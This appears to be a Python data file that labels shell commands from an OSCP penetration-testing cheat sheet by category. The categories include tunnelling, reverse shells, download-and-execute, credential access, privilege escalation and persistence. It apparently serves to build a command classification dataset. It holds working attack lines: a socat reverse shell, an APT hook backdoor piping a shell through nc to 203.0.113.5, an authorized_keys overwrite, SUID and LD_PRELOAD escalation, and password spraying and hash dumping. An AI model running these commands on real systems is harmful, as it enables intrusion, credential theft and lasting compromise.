_OSCP = "placeholders replaced: <RHOST> 198.51.100.50, <LHOST> 203.0.113.5, <LPORT> 4444, <USERNAME> alice, <PASSWORD> Passw0rd!, <FILE> loot"
S("0xsyr0/OSCP", "README.md", "0016fef81d8f33fee2ac1d36cfad2ca4e3908282")
add(M, "tunnel", "Commands > Basics: Ligolo-ng / socat / SSH", r'''
sudo ip tuntap add user $(whoami) mode tun ligolo
sudo ip link set ligolo up
./proxy -laddr 203.0.113.5:443 -selfcert
./agent -connect 203.0.113.5:443 -ignore-cert
sudo ip r add 172.16.1.0/24 dev ligolo
socat TCP-LISTEN:4444,fork TCP:198.51.100.50:80
socat tcp-listen:5986,reuseaddr,fork tcp:198.51.100.50:9002
socat tcp-listen:9002,reuseaddr,fork tcp:192.168.122.228:5968 &
ssh -R 8080:203.0.113.5:80 198.51.100.50
ssh -L 8000:127.0.0.1:8000 alice@198.51.100.50
ssh -N -L 1234:127.0.0.1:1234 alice@198.51.100.50
ssh -L 80:203.0.113.5:80 198.51.100.50
ssh -L 127.0.0.1:80:203.0.113.5:80 198.51.100.50
ssh -L 80:localhost:80 198.51.100.50
''', note=_OSCP)
add(M, "reverse_shell", "Commands > Basics: socat", r'''
socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:203.0.113.5:4444
''', note=_OSCP)
add(M, "download_execute", "Commands > Basics: File Transfer (bash only)", r'''
__wget http://203.0.113.5/loot
__curl http://203.0.113.5/loot > out.bin
wget -r ftp://anonymous:anonymous@198.51.100.50
''', note=_OSCP)
add(M, "privilege_escalation", "Commands > Basics: Linux / showmount", r'''
doas -u alice /bin/sh
chown root:root sid-shell; chmod +s sid-shell
''', note=_OSCP)
add(M, "network_scan", "Information Gathering / Web Application Analysis", r'''
sudo nmap -sU -p 123 --script ntp-info 198.51.100.50
sudo nmap 198.51.100.50 -p 11211 -sU -sS --script memcached-info
nbtscan 198.51.100.50
nmblookup -A 198.51.100.50
sudo nmap -A -T4 -sC -sV -p- 198.51.100.50
sudo nmap -sV -sU 198.51.100.50
sudo nmap -A -T4 -sC -sV --script vuln 198.51.100.50
sudo nmap -A -T4 -p- -sS -sV -oN initial --script discovery 198.51.100.50
sudo nmap -sC -sV -p- --scan-delay 5s 198.51.100.50
for p in {1..65535}; do nc -vn 198.51.100.50 $p -w 1 -z & done 2> loot.txt
export ip=198.51.100.50; for port in $(seq 1 65535); do timeout 0.01 bash -c "</dev/tcp/$ip/$port && echo The port $port is open || echo The Port $port is closed > /dev/null" 2>/dev/null || echo Connection Timeout > /dev/null; done
snmpwalk -c public -v1 198.51.100.50
snmpwalk -v2c -c public 198.51.100.50 1.3.6.1.2.1.4.34.1.3
snmpwalk -v2c -c public 198.51.100.50 .1
snmpwalk -v2c -c public 198.51.100.50 nsExtendObjects
snmpwalk -c public -v1 198.51.100.50 1.3.6.1.4.1.77.1.2.25
ffuf -w /usr/share/wordlists/dirb/common.txt -u http://198.51.100.50/FUZZ -mc 200,204,301,302,307,401 -o results.txt
ffuf -c -w /usr/share/seclists/Discovery/DNS/subdomains-top1million-110000.txt -u http://198.51.100.50/ -H "Host: FUZZ.198.51.100.50" -fs 185
ffuf -u https://198.51.100.50/api/v2/FUZZ -w api_seen_in_wild.txt -c -ac -t 250 -fc 400,404,412
ffuf -w /usr/share/wordlists/seclists/Discovery/Web-Content/directory-list-2.3-small.txt -u http://198.51.100.50/cd/basic/FUZZ -recursion
gobuster dir -w /usr/share/wordlists/dirbuster/directory-list-2.3-medium.txt -u http://198.51.100.50/
gobuster dir -w /usr/share/seclists/Discovery/Web-Content/big.txt -u http://198.51.100.50/ -x php
gobuster dns -d 198.51.100.50 -w /usr/share/wordlists/SecLists/Discovery/DNS/subdomains-top1million-5000.txt
gobuster vhost -u 198.51.100.50 -t 50 -w /usr/share/wordlists/seclists/Discovery/DNS/subdomains-top1million-110000.txt
wfuzz -w /usr/share/wfuzz/wordlist/general/big.txt -u http://198.51.100.50/FUZZ/loot.php --hc '403,404'
wfuzz --hh 0 -w /usr/share/seclists/Discovery/DNS/subdomains-top1million-5000.txt -H 'Host: FUZZ.198.51.100.50' -u http://198.51.100.50/
wpscan --url https://198.51.100.50 --enumerate u,t,p
wpscan --url https://198.51.100.50 --plugins-detection aggressive
''', note=_OSCP)
add(M, "credential_access", "Web Application Analysis: WPScan / wfuzz login / GitTools", r'''
wpscan --url http://198.51.100.50 -U alice -P passwords.txt -t 50
wfuzz -X POST -u "http://198.51.100.50:8080/login.php" -d "email=FUZZ&password=Passw0rd!" -w /PATH/TO/WORDLIST/users.txt --hc 200 -c
./gitdumper.sh http://198.51.100.50/.git/ /PATH/TO/FOLDER
''', note=_OSCP)
add("public_host", None, "Ligolo-ng / Kerberos / memcached / virtualenv", r'''
wget https://github.com/nicocha30/ligolo-ng/releases/download/v0.4.3/ligolo-ng_agent_0.4.3_Linux_64bit.tar.gz
wget https://github.com/nicocha30/ligolo-ng/releases/download/v0.4.3/ligolo-ng_proxy_0.4.3_Linux_64bit.tar.gz
sudo apt-get install krb5-kdc
npm install -g memcached-cli
sudo apt-get install virtualenv
''')
add("ordinary", None, "Commands > Basics: Linux / Upgrading Shells / virtualenv", r'''
export PATH=`pwd`:$PATH
i686-w64-mingw32-gcc -o main32.exe main.c
x86_64-w64-mingw32-gcc -o main64.exe main.c
getfacl /srv/share
iconv -f ASCII -t UTF-16LE notes.txt | base64 | tr -d "\n"
stty raw -echo; fg; ls; export SHELL=/bin/bash; export TERM=screen; stty rows 38 columns 116; reset;
env reset
stty onlcr
virtualenv -p python2.7 venv
. venv/bin/activate
klist
kdestroy
ls -lh /usr/share/nmap/scripts/*ssh*
export HTTP_PROXY=http://localhost:8080
export HTTPS_PROXY=https://localhost:8080
''', note=_OSCP)
add("escape", None, "Upgrading Shells", r'''
python3 -c 'import pty;pty.spawn("/bin/bash")'
script -q /dev/null -c bash
''')
add(M, "credential_access", "Password Attacks", r'''
crackmapexec 198.51.100.50 -u ~/PATH/TO/FILE/usernames.txt -p /usr/share/wordlists/rockyou.txt --shares
crackmapexec 198.51.100.50 -u ~/PATH/TO/FILE/usernames.txt -p /usr/share/wordlists/rockyou.txt --sam
crackmapexec 198.51.100.50 -u ~/PATH/TO/FILE/usernames.txt -p /usr/share/wordlists/rockyou.txt -m modules/credentials/mimikatz.py
fcrackzip -u -D -p /usr/share/wordlists/rockyou.txt loot.zip
hashcat -m 0 md5 /usr/share/wordlists/rockyou.txt
hashcat -m 1000 ntlm /usr/share/wordlists/rockyou.txt
hashcat -m 1800 sha512 /usr/share/wordlists/rockyou.txt
hashcat -a 0 -m 0 hash.txt SecLists/Passwords/xato-net-10-million-passwords-1000000.txt -O --force
hashcat -O -m 500 -a 3 -1 ?l -2 ?d -3 ?u  --force hash.txt ?3?3?1?1?1?1?2?3
hashcat -m 18200 -a 0 asrep.txt /usr/share/wordlists/rockyou.txt
hashcat -m 13100 --force kerberoast.txt /usr/share/wordlists/rockyou.txt
hashcat -m 3200 hash.txt -r /PATH/TO/FILE.rule
hydra -l alice -P /usr/share/wordlists/rockyou.txt 198.51.100.50 http-post-form "/admin.php:username=^USER^&password=^PASS^:login_error"
hydra 198.51.100.50 http-form-post "/otrs/index.pl:Action=Login&RequestedURL=Action=Admin&User=root@localhost&Password=^PASS^:Login failed" -l root@localhost -P otrs-cewl.txt -vV -f
/usr/share/john/ssh2john.py id_rsa > hash
john hash --wordlist=/usr/share/wordlists/rockyou.txt
john --rules --wordlist=/usr/share/wordlists/rockyou.txt hash
john --show hash
./kerbrute userenum -d corp.local --dc corp.local /PATH/TO/FILE/users.txt
./kerbrute passwordspray -d corp.local --dc corp.local /PATH/TO/FILE/users.txt Passw0rd!
pypykatz lsa minidump lsass.dmp
pypykatz registry --sam sam system
bloodhound-python -d corp.local -u alice -p "Passw0rd!" -gc corp.local -c all -ns 198.51.100.50
''', note=_OSCP)
add(M, "tunnel", "Metasploit through Proxychains", r'''
proxychains -q msfconsole
''')
add("public_host", None, "BloodHound", r'''
pip install bloodhound
sudo apt-get install neo4j
sudo apt-get install bloodhound
wget -O - https://debian.neo4j.com/neotechnology.gpg.key | sudo apt-key add -
sudo apt-get update
sudo apt-get install apt-transport-https
docker run -itd -p 7687:7687 -p 7474:7474 --env NEO4J_AUTH=neo4j/Passw0rd! -v $(pwd)/neo4j:/data neo4j:4.4-community
''', note=_OSCP)
add("ordinary", None, "Password Attacks / Exploitation Tools", r'''
hashcat --example-hashes
export HYDRA_PROXY=connect://127.0.0.1:8080
unset HYDRA_PROXY
convert poc.svg poc.png
msfdb status
systemctl start neo4j
''')
add(M, "credential_access", "Post Exploitation: Impacket / Kerberos / ldapsearch", r'''
impacket-secretsdump corp.local/alice@198.51.100.50
impacket-secretsdump -ntds ndts.dit -system system -hashes lmhash:nthash LOCAL -output nt-hash
impacket-secretsdump -sam SAM -security SECURITY -system SYSTEM LOCAL
impacket-GetNPUsers corp.local/alice:Passw0rd! -request -format hashcat -outputfile asrep.txt
impacket-GetNPUsers corp.local/ -usersfile users.txt -format john -outputfile asrep.txt
impacket-GetUserSPNs corp.local/alice:Passw0rd! -outputfile kerberoast.txt
impacket-getTGT corp.local/alice:Passw0rd!
./kerbrute -domain corp.local -users users.txt -passwords pass.txt -outputfile found.txt
ldapsearch -x -h 198.51.100.50 -D "alice" -b "dc=corp,dc=local" "(ms-MCS-AdmPwd=*)" ms-MCS-AdmPwd
/tmp/tickey -i
''', note=_OSCP)
add(M, "privilege_escalation", "Post Exploitation: Linux", r'''
find / -perm -4000 2>/dev/null | xargs ls -la
find / -type f -user root -perm -4000 2>/dev/null
find / -type f -a \( -perm -u+s -o -perm -g+s \) -exec ls -l {} \; 2> /dev/null
sudo /usr/sbin/apache2 -f /etc/shadow
env -i SHELLOPTS=xtrace PS4='$(chmod +s /bin/bash)' /usr/local/bin/backup
function /usr/sbin/service { /bin/bash -p; }
sudo LD_PRELOAD=/tmp/shell.so /usr/bin/find
sudo LD_LIBRARY_PATH=/tmp/libcrypt.so.1 /usr/sbin/apache2
./logrotten -p ./payloadfile /tmp/log/pwnme.log
./logrotten -p ./payloadfile -c -s 4 /tmp/log/pwnme.log
/usr/bin/php7.2 -r "pcntl_exec('/bin/bash', ['-p']);"
touch ./--checkpoint=1
touch -- '--checkpoint-action=exec=sh shell.sh'
''', note=_OSCP)
add(M, "credential_access", "Post Exploitation: Linux (find / grep for passwords)", r'''
find ./ -type f -exec grep --color=always -i -I 'password' {} \;
grep -R db_passwd
grep -roiE "password.{20}"
grep -oiE "password.{20}" /etc/*.conf
''')
add(M, "persistence", "Post Exploitation: Linux (APT / aria2c)", r'''
echo 'apt::Update::Pre-Invoke {"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.5 4444 >/tmp/f"};' > /etc/apt/apt.conf.d/99backdoor
aria2c -d /root/.ssh/ -o authorized_keys "http://203.0.113.5/authorized_keys" --allow-overwrite=true
''', note=_OSCP)
add("ordinary", None, "Post Exploitation: Linux (Basic Enumeration)", r'''
id
uname -a
cat /etc/hosts
cat /etc/fstab
ss -tulpn
ps -auxf
ls -lahv
ls -R /home
ls -la /opt
find / -cmin -60
find / -amin -60
grep default_ccache_name /etc/krb5.conf
python ticket_converter.py ticket.kirbi ticket.ccache
''')
